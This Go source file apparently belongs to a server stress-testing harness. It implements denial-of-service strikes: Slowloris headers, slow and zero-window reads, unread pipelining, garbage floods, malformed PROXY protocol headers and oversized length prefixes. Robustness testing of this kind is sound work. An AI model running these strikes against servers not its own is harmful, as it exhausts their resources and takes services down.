package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"time"
)

// The strikes of plain connections. Those of TLS are in tls.go.

func hold(_ context.Context, a *attacker) error { return a.stay() }

// churn leaves in an orderly way, which leaves an address of its own in TIME_WAIT.
func churn(_ context.Context, a *attacker) error { return a.Close() }

// reset leaves as every attacker does: by a reset.
func reset(context.Context, *attacker) error { return nil }

func halfClose(_ context.Context, a *attacker) error {
	if err := a.raw.CloseWrite(); err != nil {
		return err
	}
	return a.stay()
}

// faults sends a part of a request in pieces, and leaves in any of the ways there are.
func faults(ctx context.Context, a *attacker) error {
	rest := a.force.target.protocol.request
	rest = rest[:rand.IntN(len(rest)+1)]
	for len(rest) > 0 {
		n := 1 + rand.IntN(len(rest))
		if err := a.send(rest[:n]); err != nil {
			return err
		}
		rest = rest[n:]
	}
	switch rand.IntN(3) {
	case 0:
		return a.Close()
	case 1:
		if err := a.raw.CloseWrite(); err != nil {
			return err
		}
		return a.listen(ctx, a.force.beat/100)
	}
	return nil
}

// request has a round trip and leaves: what there is of a client's traces at a
// server, it leaves there.
func request(ctx context.Context, a *attacker) error {
	if err := a.send(a.force.target.protocol.request); err != nil {
		return err
	}
	return a.await(ctx)
}

// slowHeader is a PROXY protocol header that nearly comes.
func slowHeader(ctx context.Context, a *attacker) error {
	header := proxyHeader(a.raw)
	return a.drip(ctx, header[:len(header)-2])
}

// longHeader announces the longest PROXY protocol header of version 2 that there is:
// TCP over IPv4, and 65,535 bytes.
func longHeader(_ context.Context, a *attacker) error {
	if err := a.send([]byte("\r\n\r\n\x00\r\nQUIT\n\x21\x11\xff\xff")); err != nil {
		return err
	}
	return a.stay()
}

const noiseSize = 64 << 10 // more than any first message has, and than what is peeked at

// garbage goes on as long as it is listened to.
func garbage(ctx context.Context, a *attacker) error {
	noise := make([]byte, noiseSize)
	for {
		for word := range slices.Chunk(noise, 8) {
			binary.NativeEndian.PutUint64(word, rand.Uint64())
		}
		if err := a.send(noise); err != nil {
			return err
		}
		if err := a.listen(ctx, a.force.beat/10); err != nil {
			return err
		}
	}
}

// slowRequest is the classic Slowloris: headers without an end.
func slowRequest(ctx context.Context, a *attacker) error {
	return a.dripOn(ctx, fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s\r\n", a.force.target.host), []byte("X-A: b\r\n"))
}

func slowLine(ctx context.Context, a *attacker) error {
	return a.dripOn(ctx, nil, []byte("line without end "))
}

// slowMessage has its length in front, and comes slowly.
func slowMessage(ctx context.Context, a *attacker) error {
	if err := a.send(binary.BigEndian.AppendUint32(nil, 1000)); err != nil {
		return err
	}
	return a.dripOn(ctx, nil, []byte("message "))
}

// lengthBomb announces as much as a length can say, in the ways that are usual.
func lengthBomb(_ context.Context, a *attacker) error {
	lengths := []string{
		"\xff\xff\xff\xff",                         // 4 bytes
		"\x7f\xff\xff\xff",                         // that are positive
		"\xff\xff\xff\x7f",                         // and little-endian
		"\xff\xff\xff\xff\xff\xff\xff\xff\x7f",     // a varint
		"\x00\x00\x00\x7f\xff\xff\xff\xff\xff\xff", // 8 bytes
		"*1\r\n$536870912\r\n",                     // as Redis does
	}
	if err := a.send([]byte(lengths[a.number%int64(len(lengths))])); err != nil {
		return err
	}
	return a.stay()
}

// longBody announces one.
func longBody(ctx context.Context, a *attacker) error {
	head := fmt.Appendf(nil, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 9223372036854775807\r\n\r\n", a.force.target.host)
	if err := a.send(head); err != nil {
		return err
	}
	return a.dripOn(ctx, nil, []byte("body "))
}

const endless = 8 << 20 // bytes, which nobody wants to keep

// endlessLine reads what comes back, or an echo would stop reading.
func endlessLine(ctx context.Context, a *attacker) error {
	end, stop := a.readAlong(a.Conn)
	defer stop()
	line := make([]byte, 32<<10)
	for i := range line {
		line[i] = 'a'
	}
	for range endless / len(line) {
		if err := a.send(line); err != nil {
			return err
		}
	}
	if err := a.raw.CloseWrite(); err != nil {
		return err
	}
	select {
	case <-end: // rather than leaving by a reset, which takes back what has not been read
	case <-ctx.Done():
	case <-time.After(patience):
	}
	return ctx.Err()
}

const unread = 256 << 10 // bytes of requests, whose answers then wait

// slowRead asks for much, and reads 1 KiB at a beat.
func slowRead(ctx context.Context, a *attacker) error {
	if err := a.sendUnread(unread); err != nil {
		return err
	}
	part := make([]byte, 1<<10)
	for {
		if err := a.lift(ctx); err != nil {
			return err
		}
		if _, err := io.ReadFull(a, part); err != nil {
			return err
		}
		if err := a.watch(ctx, a.force.beat); err != nil {
			return err
		}
	}
}

// zeroWindow asks for much, and does not read.
func zeroWindow(ctx context.Context, a *attacker) error {
	if err := a.sendUnread(unread); err != nil {
		return err
	}
	for {
		if err := a.watch(ctx, a.force.beat); err != nil {
			return err
		}
	}
}

// pipeline asks, and asks, and does not read.
func pipeline(_ context.Context, a *attacker) error {
	many := slices.Repeat(a.force.target.protocol.request, 100)
	for {
		if err := a.send(many); err != nil {
			return err
		}
	}
}
